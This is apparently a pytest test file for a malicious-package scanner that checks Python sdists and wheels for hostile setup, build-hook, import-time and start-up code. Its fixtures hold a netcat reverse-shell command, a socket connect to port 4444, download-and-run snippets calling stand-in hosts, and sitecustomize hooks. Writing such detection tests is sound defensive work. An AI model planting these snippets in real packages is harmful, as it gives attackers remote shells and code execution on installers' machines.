"""Rules 25 to 30: where code that runs lies, and what is not an address.

- 25: a raw IP address in a setup script is a sink only where the script may connect to
  something (a four-part version such as ``1.0.0.1`` reads as an address too);
- 26: a package whose only code lies in test or example folders installs that code;
- 27: an sdist's root folder (``test-helpers-1.0/``) is not a tests folder;
- 28: a command's module is read wherever it lies and however it is named;
- 29: a top-level package in a folder of its own runs on import; a setuptools command class
  declared in ``pyproject.toml`` or ``setup.cfg`` runs at build time; a plug-in pytest or
  setuptools loads by itself runs with them; an sdist's configuration declares its commands;
- 30: the first package under a namespace package runs on import; what a wheel installs into
  site-packages through its ``.data`` folders is judged where it lands;
- 33: an sdist's setup script declares its commands too.

The sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import pytest

from tests.support.archives import pkg_info, sdist, wheel
from tests.support.scan import judge


def _setup(body: str) -> dict[str, float]:
    files = {
        "setup.py": f"from setuptools import setup\n{body}",
        "PKG-INFO": pkg_info("demo", version="1.0.0.1"),
        "demo/__init__.py": "def run():\n    return 1\n",
    }
    rules, _held = judge(sdist(files, root="demo-1.0.0.1"), "demo-1.0.0.1.tar.gz")
    return rules


def test_a_version_that_reads_as_an_address_is_no_sink() -> None:
    rules = _setup("setup(name='demo', version='1.0.0.1', packages=['demo'])\n")
    assert "exfil-sink" not in rules


@pytest.mark.parametrize(
    "body",
    [
        "import socket\ns = socket.socket()\ns.connect(('93.184.216.34', 4444))\n"
        "setup(name='demo', version='1.0.0.1')\n",
        "import os\nos.system('nc 93.184.216.34 4444 -e /bin/sh')\n"
        "HOST = '93.184.216.34'\nsetup(name='demo', version='1.0.0.1')\n",
    ],
    ids=["socket", "process"],
)
def test_an_address_beside_a_connection_or_a_process_is_a_sink(body: str) -> None:
    assert "exfil-sink" in _setup(body)


#: A downloaded script saved and run: held wherever a package's modules are judged.
DOWNLOAD_RUN = (
    "import subprocess, urllib.request\n"
    "def fetch():\n"
    "    urllib.request.urlretrieve('https://cdn.example.net/p.py', '/tmp/p.py')\n"
    "    subprocess.call('python3 /tmp/p.py', shell=True)\n"
)


def _package(**modules: str) -> tuple[dict[str, float], bool]:
    files = {
        "setup.py": "from setuptools import setup, find_packages\nsetup(name='demo', packages=find_packages('src'))\n",
        "PKG-INFO": pkg_info("demo"),
        "src/demo/__init__.py": "",
        **modules,
    }
    return judge(sdist(files, root="demo-1.0"), "demo-1.0.tar.gz")


def test_a_package_of_nothing_but_examples_is_judged_on_them() -> None:
    rules, held = _package(
        **{"src/demo/example/__init__.py": "", "src/demo/example/run.py": DOWNLOAD_RUN}
    )
    assert "drop-run" in rules
    assert held


def test_examples_beside_the_package_own_code_are_not_judged() -> None:
    rules, held = _package(
        **{
            "src/demo/core.py": "def add(a, b):\n    return a + b\n",
            "src/demo/example/run.py": DOWNLOAD_RUN,
        }
    )
    assert not {"drop-run", "download-run"} & set(rules)
    assert not held


def test_a_project_named_like_a_tests_folder_is_judged() -> None:
    """``test-helpers-1.0/`` is the sdist's root, the project's name: not a tests folder."""
    files = {
        "setup.py": "from setuptools import setup\nsetup(name='test-helpers', packages=['test_helpers'])\n",
        "PKG-INFO": pkg_info("test-helpers"),
        "test_helpers/__init__.py": "",
        "test_helpers/core.py": "def add(a, b):\n    return a + b\n",
        "test_helpers/fetch.py": DOWNLOAD_RUN,
    }
    rules, held = judge(sdist(files, root="test-helpers-1.0"), "test-helpers-1.0.tar.gz")
    assert "drop-run" in rules
    assert held


@pytest.mark.parametrize("module", ["demo/cli.py", "demo/tests/cli.py", "demo/test_cli.py"])
def test_a_command_module_is_read_wherever_it_lies(module: str) -> None:
    target = module.removesuffix(".py").replace("/", ".")
    archive = wheel(
        {
            "demo/__init__.py": "def add(a, b):\n    return a + b\n",
            module: DOWNLOAD_RUN.replace("def fetch", "def main"),
            "demo-1.0.dist-info/entry_points.txt": f"[console_scripts]\ndemo-cli = {target}:main\n",
        }
    )
    rules, held = judge(archive, "demo-1.0-py3-none-any.whl")
    assert "drop-run" in rules
    assert held


def test_a_tests_module_no_command_names_is_still_not_judged() -> None:
    archive = wheel(
        {
            "demo/__init__.py": "def add(a, b):\n    return a + b\n",
            "demo/tests/cli.py": DOWNLOAD_RUN,
            "demo-1.0.dist-info/entry_points.txt": "[console_scripts]\ndemo-cli = demo:add\n",
        }
    )
    rules, held = judge(archive, "demo-1.0-py3-none-any.whl")
    assert "drop-run" not in rules
    assert not held


@pytest.mark.parametrize("folder", ["src", "lib", "python"])
def test_a_top_level_package_in_a_folder_of_its_own_runs_on_import(folder: str) -> None:
    """``package_dir={"": "lib"}``, found by ``top_level.txt``: read as ``src/`` is."""
    files = {
        "setup.py": "from setuptools import setup\n"
        f"setup(name='demo', package_dir={{'': {folder!r}}}, packages=['demo'])\n",
        "PKG-INFO": pkg_info("demo"),
        "demo.egg-info/top_level.txt": "demo\n",
        f"{folder}/demo/__init__.py": "import urllib.request as u\n"
        "u.urlopen('https://cfg.example.net/c').read()\n",
    }
    rules, _held = judge(sdist(files, root="demo-1.0"), "demo-1.0.tar.gz")
    assert rules.get("import-network") == 5


#: A setuptools command class that fetches something when the project is built.
BUILD_HOOK = (
    "from setuptools.command.build_py import build_py\n"
    "import urllib.request as u\n"
    "class BuildPy(build_py):\n"
    "    def run(self):\n"
    "        u.urlopen('https://cfg.example.net/c').read()\n"
    "        super().run()\n"
)
PYPROJECT = (
    '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
    '[project]\nname = "demo"\nversion = "1.0"\n'
)


@pytest.mark.parametrize(
    ("pyproject", "setup_cfg"),
    [
        (PYPROJECT + '[tool.setuptools.cmdclass]\nbuild_py = "demo.hooks.BuildPy"\n', None),
        (PYPROJECT, "[options]\ncmdclass =\n    build_py = demo.hooks.BuildPy\n"),
    ],
    ids=["pyproject", "setup.cfg"],
)
def test_a_command_class_declared_without_setup_py_is_install_code(
    pyproject: str, setup_cfg: str | None
) -> None:
    files = {
        "PKG-INFO": pkg_info("demo"),
        "pyproject.toml": pyproject,
        "demo/__init__.py": "def add(a, b):\n    return a + b\n",
        "demo/hooks.py": BUILD_HOOK,
    }
    if setup_cfg:
        files["setup.cfg"] = setup_cfg
    rules, _held = judge(sdist(files, root="demo-1.0"), "demo-1.0.tar.gz")
    assert "install-network" in rules


def test_the_same_module_no_command_names_is_not_install_code() -> None:
    files = {
        "PKG-INFO": pkg_info("demo"),
        "pyproject.toml": PYPROJECT,
        "demo/__init__.py": "def add(a, b):\n    return a + b\n",
        "demo/hooks.py": BUILD_HOOK,
    }
    rules, _held = judge(sdist(files, root="demo-1.0"), "demo-1.0.tar.gz")
    assert "install-network" not in rules


@pytest.mark.parametrize(
    "group", ["pytest11", "setuptools.finalize_distribution_options", "egg_info.writers"]
)
def test_a_plugin_a_host_loads_by_itself_is_read_wherever_it_lies(group: str) -> None:
    archive = wheel(
        {
            "demo/__init__.py": "def add(a, b):\n    return a + b\n",
            "demo/testing/plugin.py": DOWNLOAD_RUN.replace("def fetch():\n    ", "").replace(
                "\n    ", "\n"
            ),
            "demo-1.0.dist-info/entry_points.txt": f"[{group}]\nplug = demo.testing.plugin\n",
        }
    )
    rules, held = judge(archive, "demo-1.0-py3-none-any.whl")
    assert "drop-run" in rules
    assert held


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("pyproject.toml", PYPROJECT + '[project.scripts]\ndemo-cli = "demo.test_cli:main"\n'),
        (
            "setup.cfg",
            "[options.entry_points]\nconsole_scripts =\n    demo-cli = demo.test_cli:main\n",
        ),
    ],
    ids=["pyproject", "setup.cfg"],
)
def test_an_sdist_command_declared_in_its_configuration_is_read(name: str, text: str) -> None:
    """An sdist without an ``entry_points.txt`` declares its commands in its configuration."""
    files = {
        "PKG-INFO": pkg_info("demo"),
        "demo/__init__.py": "def add(a, b):\n    return a + b\n",
        "demo/test_cli.py": DOWNLOAD_RUN.replace("def fetch", "def main"),
        name: text,
    }
    if name != "pyproject.toml":
        files["pyproject.toml"] = PYPROJECT
    rules, held = judge(sdist(files, root="demo-1.0"), "demo-1.0.tar.gz")
    assert "drop-run" in rules
    assert held


#: Import-time code that fetches something: ``import-network`` wherever import runs it.
FETCHES = "import urllib.request as u\nu.urlopen('https://cfg.example.net/c').read()\n"


@pytest.mark.parametrize(
    "files",
    [
        {"acme/evil/__init__.py": FETCHES},
        {"acme/tools/evil/__init__.py": FETCHES},
    ],
    ids=["namespace", "two namespace levels"],
)
def test_the_first_package_under_a_namespace_package_runs_on_import(
    files: dict[str, str],
) -> None:
    rules, _held = judge(wheel(files), "demo-1.0-py3-none-any.whl")
    assert rules.get("import-network") == 5


def test_a_subpackage_of_a_regular_package_is_not_a_top_level_one() -> None:
    """Judged as a module nothing imports (a small package's every module is judged as
    if it ran, rules 50 read them all: the library here makes the package large)."""
    library = "".join(f"def f{i}(x):\n    return x + {i}\n\n" for i in range(2000))
    fetches = "import urllib.request\nurllib.request.urlopen('https://cfg.example.net/c')\n"
    files = {"acme/__init__.py": "", "acme/evil/__init__.py": fetches, "acme/lib.py": library}
    rules, _held = judge(wheel(files), "demo-1.0-py3-none-any.whl")
    assert rules.get("import-network", 0) < 5


@pytest.mark.parametrize(
    "where",
    [
        "sitecustomize.py",
        "demo-1.0.data/purelib/sitecustomize.py",
        "demo-1.0.data/data/lib/python3.12/site-packages/usercustomize.py",
    ],
)
def test_a_start_up_hook_installed_through_the_data_scheme_is_one(where: str) -> None:
    files = {"demo/__init__.py": "x = 1\n", where: FETCHES}
    rules, held = judge(wheel(files), "demo-1.0-py3-none-any.whl")
    assert "startup-hook" in rules
    assert held


def test_a_package_installed_through_the_data_scheme_runs_on_import() -> None:
    files = {"demo/__init__.py": "x = 1\n", "demo-1.0.data/platlib/evil/__init__.py": FETCHES}
    rules, _held = judge(wheel(files), "demo-1.0-py3-none-any.whl")
    assert rules.get("import-network") == 5


def test_an_sdist_command_declared_in_its_setup_script_is_read() -> None:
    setup = (
        "from setuptools import setup\n"
        "setup(name='demo', packages=['demo'], entry_points={\n"
        "    'console_scripts': ['demo-cli = demo.test_cli:main'],\n"
        "})\n"
    )
    files = {
        "PKG-INFO": pkg_info("demo"),
        "setup.py": setup,
        "demo/__init__.py": "def add(a, b):\n    return a + b\n",
        "demo/test_cli.py": DOWNLOAD_RUN.replace("def fetch", "def main"),
    }
    rules, held = judge(sdist(files, root="demo-1.0"), "demo-1.0.tar.gz")
    assert "drop-run" in rules
    assert held
